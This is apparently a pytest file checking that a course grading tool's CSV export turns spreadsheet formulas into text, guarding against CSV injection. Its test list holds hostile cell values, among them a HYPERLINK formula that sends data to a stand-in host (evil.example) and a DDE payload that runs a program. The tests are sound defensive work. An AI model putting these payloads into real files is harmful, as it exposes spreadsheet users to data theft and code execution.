"""Every CSV the course writes keeps a spreadsheet formula as text (CSV injection).

A student id, a roster name or an e-mail that starts with ``=``, ``+``, ``-``, ``@`` (or a tab / line
break, or after spaces) would run as a formula when the instructor opens ``grades.csv`` in Excel,
LibreOffice or Google Sheets (``=HYPERLINK(...)`` sends data away, ``=cmd|...`` runs a program in old
Excel). The course's writer prefixes such text with ``'``; numbers it computed stay numbers.
"""
from __future__ import annotations

import csv

import pytest
from nbgrader.api import Gradebook

from rlhf_lab.instructor.operations import backup, csv_export

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"grade")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1", " =1+1", "\n@x", "\uff1d1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_prefixed_with_a_quote(text):
    assert csv_export.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value, text", [(-1.5, "-1.5"), (-3, "-3"), (0.0, "0.0"), (None, ""), (True, "True"),
                                         ("doe, jane", "doe, jane"), ("a-b", "a-b"), ("ada@x.edu", "ada@x.edu")])
def test_numbers_and_ordinary_text_are_kept(value, text):
    assert csv_export.safe_cell(value) == text


def _read(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_nbgrader_export_through_the_course_plugin_writes_roster_formulas_as_text(tmp_path):
    """The real export plugin (what `nbgrader export` runs, nbgrader_config.py) on a real gradebook."""
    url = f"sqlite:///{tmp_path / 'gb.db'}"
    with Gradebook(url) as gb:
        gb.add_assignment("a1")
        gb.add_notebook("nb", "a1")
        gb.add_grade_cell("t1", "nb", "a1", max_score=1, cell_type="code")  # an assignment without points has no rows
        gb.add_student("mallory", first_name=FORMULAS[0], last_name="@SUM(A1:A9)", email="=1+1@x.edu")
        gb.add_student("ada", first_name="Ada", last_name="Okafor-Reyes", email="ada@x.edu")
        gb.add_student("-2+3")  # a folder name the pre-flight would reject, exported as text anyway
        csv_export.CsvExport(to=str(tmp_path / "grades.csv")).export(gb)
    rows = {r["student_id"]: r for r in _read(tmp_path / "grades.csv")}
    assert rows["mallory"]["first_name"] == "'" + FORMULAS[0]
    assert rows["mallory"]["last_name"] == "'@SUM(A1:A9)"
    assert rows["mallory"]["email"] == "'=1+1@x.edu"
    assert rows["ada"]["last_name"] == "Okafor-Reyes"
    assert "'-2+3" in rows
    assert {r["raw_score"] for r in rows.values()} == {"0.0"}  # numbers are not quoted


def test_the_backups_cell_table_writes_formulas_as_text(tmp_path):
    row = {k: "" for k in backup.CELL_COLUMNS}
    row.update(student="=HYPERLINK(\"x\")", assignment="a1", score=-0.5)
    dest = backup.write_cell_csv([row], tmp_path / "cells.csv")
    (out,) = _read(dest)
    assert out["student"] == "'=HYPERLINK(\"x\")"
    assert out["score"] == "-0.5"
